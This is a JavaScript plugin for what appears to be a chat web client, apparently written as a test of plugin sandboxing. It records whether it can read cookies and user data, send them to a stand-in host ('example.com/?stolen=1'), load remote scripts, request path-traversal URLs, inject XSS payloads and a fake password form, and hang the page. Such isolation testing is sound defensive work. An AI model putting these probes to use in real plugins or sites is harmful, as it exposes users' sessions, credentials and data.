// A web half that tries to get out: at the page, at the server as its reader, at other servers, and at the reader's eyes.
(() => {
  const {createElement: h, useState, useEffect} = window.React;
  const tried = {};
  const attempt = (name, work) => {
    try {
      Promise.resolve(work()).then((got) => (tried[name] = got === undefined || got === null ? 'nothing' : `GOT ${String(got).slice(0, 40)}`), (error) => (tried[name] = `refused ${error.name}`));
    } catch (error) {
      tried[name] = `refused ${error.name}`;
    }
  };
  const raw = Object.getPrototypeOf(self).fetch ?? globalThis.fetch;
  const started = raw.bind(self);

  attempt('document', () => document.cookie);
  attempt('parent', () => parent.document.body.innerHTML);
  attempt('top', () => top.location.href);
  attempt('frames', () => frames[0]);
  attempt('storage', () => localStorage.getItem('x'));
  attempt('database', () => new Promise((done, failed) => {
    const asked = indexedDB.open('x');
    asked.onsuccess = () => done('a database');
    asked.onerror = () => failed(asked.error);
  }));
  attempt('caches', () => caches.keys().then((keys) => `caches ${keys.length}`));
  attempt('the reader', () => started(`${PAGE}/api/v4/users/me`).then((answer) => answer.text()));
  attempt('another server', () => started('https://example.com/?stolen=1').then(() => 'an answer'));
  attempt('without an answer', () => started('https://example.com/?stolen=1', {mode: 'no-cors'}).then(() => 'an answer'));
  attempt('a request', () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.responseText);
    request.onerror = () => failed(new Error('no'));
    request.open('GET', `${PAGE}/api/v4/users/me`);
    request.withCredentials = true;
    request.send();
  }));
  attempt('a socket', () => new Promise((done, failed) => {
    const socket = new WebSocket(`${PAGE.replace('http', 'ws')}/api/v4/websocket`);
    socket.onopen = () => done('a socket');
    socket.onerror = () => failed(new Error('no'));
  }));
  attempt('more code', () => { importScripts(`${PAGE}/jackfield-isolated.js`); return 'code'; });
  attempt('code of others', () => { importScripts('https://example.com/x.js'); return 'code'; });
  attempt('made code', () => new Function('return 7')());

  function Side() {
    const [, again] = useState(0);
    const [more, setMore] = useState(false);
    useEffect(() => {
      const timer = setInterval(() => again((before) => before + 1), 100);
      for (const path of ['/api/v4/users/me', '/plugins/other/x', '/plugins/hostile/../other/x', '/plugins/hostile/%2e%2e/x', 'https://example.com/plugins/hostile/', '//example.com/plugins/hostile/']) {
        attempt(`asks for ${path}`, () => fetch(path).then((answer) => answer.text()));
      }
      return () => clearInterval(timer);
    }, []);
    return h('div', {id: 'frame', className: 'dialog__overlay btn', style: {position: 'fixed', inset: 0, zIndex: 9999, background: 'url(https://example.com/x)', color: 'red'}, dangerouslySetInnerHTML: {__html: '<img src=x onerror=alert(1)>'}},
      h('script', null, 'window.got = 1'),
      h('iframe', {src: 'https://example.com/'}, 'in a frame'),
      h('img', {src: 'https://example.com/stolen.png', alt: 'a picture of others'}),
      h('a', {href: 'javascript:window.got=2'}, 'a link that runs'),
      h('a', {href: 'https://example.com/'}, 'a link that leads'),
      h('form', {action: 'https://example.com/'}, h('input', {type: 'password', name: 'password'})),
      h('svg', {onload: 'window.got=3'}, h('foreignObject', null, 'in a picture')),
      h('object', {data: 'https://example.com/'}),
      h('pre', null, JSON.stringify(tried, null, 1)),
      h('button', {onClick: () => setMore(true)}, 'Too much'),
      h('button', {onClick: () => { for (;;); }}, 'Stand still'),
      more && Array.from({length: 4000}, (_, key) => h('span', {key}, 'x')),
    );
  }

  window.registerPlugin('hostile', {
    initialize(registry, store) {
      for (const method of ['registerRootComponent', 'registerGlobalComponent', 'registerMessageWillBePostedHook', 'registerComponentOverride', 'registerProduct', 'registerReducer']) {
        tried[method] = method === 'registerReducer' || registry[method] === undefined ? 'not there' : 'GOT it';
      }
      const side = registry.registerRightHandSidebarComponent(Side, 'Hostile');
      registry.registerChannelHeaderMenuAction('Open what is hostile', () => store.dispatch(side.toggleRHSPlugin));
      registry.registerWebSocketEventHandler('posted', () => (tried.posted = 'GOT a message'));
      tried.state = Object.keys(store.getState().entities.users.profiles).length === 0 ? 'nothing' : 'GOT people';
    },
  });
})();
